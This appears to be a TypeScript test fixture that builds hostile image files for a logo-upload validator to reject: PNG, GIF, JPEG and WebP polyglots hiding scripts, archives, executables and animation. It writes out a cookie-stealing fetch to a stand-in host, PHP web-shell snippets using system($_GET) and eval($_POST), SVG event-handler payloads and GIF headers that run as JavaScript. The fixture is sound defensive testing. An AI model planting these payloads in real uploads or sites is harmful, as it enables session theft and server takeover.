import { strToU8, zipSync, zlibSync } from 'fflate';
import { pngChunk } from '../../../src/model/logo-file/encode-png.js';
import { bytesOf, u16le, u32le, type Bytes } from './bytes.js';
import { refusedAs, type HostileFile } from './hostile-file.js';
import {
  extendedWebp,
  gif,
  gifComment,
  jpeg,
  plainPictures,
  png,
  pngText,
  segment,
  subBlocks,
  webpChunk,
} from './pictures.js';

const SCRIPT = '<script>fetch("//x.example/?"+document.cookie)</script>';
const ZIP = bytesOf(zipSync({ 'run.js': strToU8('alert(1)') }, { mtime: '1980-01-01', level: 0 }));

/** Files that are a picture and something else. */
export function secondFaces(): readonly HostileFile[] {
  return [
    ...plainPictures.flatMap(({ name, bytes }) => refusedAs('trailing-data', followed(name, bytes))),
    ...refusedAs('hidden-content', hidden()),
    ...refusedAs('too-many-pixels', {
      'GIF that is a script by its size': bytesOf('GIF89a/*', gif().slice(8), '*/=1;alert(1)'),
      'GIF that is an assignment': bytesOf('GIF89a=1;alert(1)//', gif().slice(10)),
      'GIF that is a call': bytesOf('GIF87a=alert(1);', gif().slice(10)),
    }),
    ...refusedAs('animated', moving()),
  ];
}

function followed(name: string, bytes: Bytes): Record<string, Bytes> {
  const tails: Record<string, string | Bytes> = {
    'a zero': '\0',
    'a line break': '\r\n',
    'an archive': ZIP,
    'a page': `<html>${SCRIPT}</html>`,
    'a script': '/*x*/alert(1)',
    'a document': '%PDF-1.4 1 0 obj',
    'another picture': bytes,
  };
  return Object.fromEntries(
    Object.entries(tails).map(([tail, data]) => [`${name} followed by ${tail}`, bytesOf(bytes, data)]),
  );
}

/** A row of a PNG that reads as this text; stored, so that the text is in the file. */
function pngSaying(text: string): Bytes {
  const row = bytesOf(0, text, new Uint8Array((3 - (text.length % 3)) % 3));
  return png({ width: (row.length - 1) / 3, height: 1, packed: bytesOf(zlibSync(row, { level: 0 })) });
}

function hidden(): Record<string, Bytes> {
  return {
    'PNG with a script in a text': png({ before: [pngText(SCRIPT)] }),
    'PNG with a handler in a text': png({ before: [pngText('x" onerror="alert(1)')] }),
    'PNG with PHP in a text': png({ before: [pngText('<?php system($_GET[1]); ?>')] }),
    'PNG with an archive in a chunk': png({ after: [pngChunk('ziPp', ZIP)] }),
    'PNG with an archive in a text': png({ after: [pngChunk('tEXt', bytesOf('Comment\0', ZIP))] }),
    'PNG with a drawing in a text': png({ before: [pngText('<svg onload=alert(1)>')] }),
    'PNG with a script in its profile': png({ before: [pngChunk('iCCP', bytesOf('x\0\0', SCRIPT))] }),
    'PNG with a script as pixels': pngSaying(SCRIPT),
    'PNG with a page as pixels': pngSaying('<HTML><body>'),
    'PNG with PHP as pixels': pngSaying('<?php eval($_POST[1]);'),
    'GIF with a script in a comment': gif({ before: [gifComment(SCRIPT)] }),
    'GIF with PHP in a comment': gif({ before: [gifComment('<?PHP phpinfo();')] }),
    'GIF with an archive in a program’s data': gif({
      before: [bytesOf(0x21, 0xff, 11, 'XMP DataXMP', subBlocks(ZIP))],
    }),
    'GIF with a page in a comment': gif({ before: [gifComment('<!DOCTYPE html><p>')] }),
    'JPEG with a page in a comment': jpeg({ before: [segment(0xfe, `<html>${SCRIPT}</html>`)] }),
    'JPEG with PHP in a comment': jpeg({ before: [segment(0xfe, '<?php phpinfo();')] }),
    'JPEG with an archive in a comment': jpeg({ before: [segment(0xfe, ZIP)] }),
    'JPEG with a document in a comment': jpeg({ before: [segment(0xfe, '%PDF-1.4\n1 0 obj')] }),
    'JPEG with a drawing in its data': jpeg({ before: [segment(0xe1, 'x\0<svg onload="alert(1)"/>')] }),
    'JPEG with a script in its profile': jpeg({
      before: [segment(0xe2, 'ICC_PROFILE\0\u0001\u0001', SCRIPT)],
    }),
    'JPEG with a program in a comment': jpeg({ before: [segment(0xfe, 'MZ\u0090\0\u0003\0\0\0')] }),
    'JPEG with JavaScript as an address': jpeg({ before: [segment(0xe0, 'JavaScript:alert(1)')] }),
    'WebP with a script in an unknown chunk': extendedWebp(0, webpChunk('HTML', bytesOf(SCRIPT))),
    'WebP with an archive in an unknown chunk': extendedWebp(0, webpChunk('ZIP ', ZIP)),
    'WebP with a script in its texts': extendedWebp(4, webpChunk('XMP ', bytesOf(SCRIPT))),
    'WebP with a drawing in its data': extendedWebp(8, webpChunk('EXIF', bytesOf('<svg onload=alert(1)>'))),
  };
}

function moving(): Record<string, Bytes> {
  const control = pngChunk('acTL', bytesOf(0, 0, 0, 2, 0, 0, 0, 0));
  return {
    'PNG that moves': png({ before: [control] }),
    'PNG with one picture more': png({ after: [pngChunk('fdAT', bytesOf(0, 0, 0, 1, 1, 2, 3))] }),
    'PNG with a frame’s header': png({ before: [pngChunk('fcTL', new Uint8Array(26))] }),
    'GIF of two pictures': gif({ frames: 2 }),
    'GIF of 5,000 pictures': gif({ width: 2, height: 1, frames: 5000 }),
    'GIF that repeats': gif({
      frames: 3,
      before: [bytesOf(0x21, 0xff, 11, 'NETSCAPE2.0', 3, 1, u16le(0), 0)],
    }),
    'WebP that says it moves': extendedWebp(2),
    'WebP with frames': extendedWebp(
      0,
      webpChunk('ANIM', new Uint8Array(6)),
      webpChunk('ANMF', bytesOf(new Uint8Array(16), u32le(0))),
    ),
  };
}
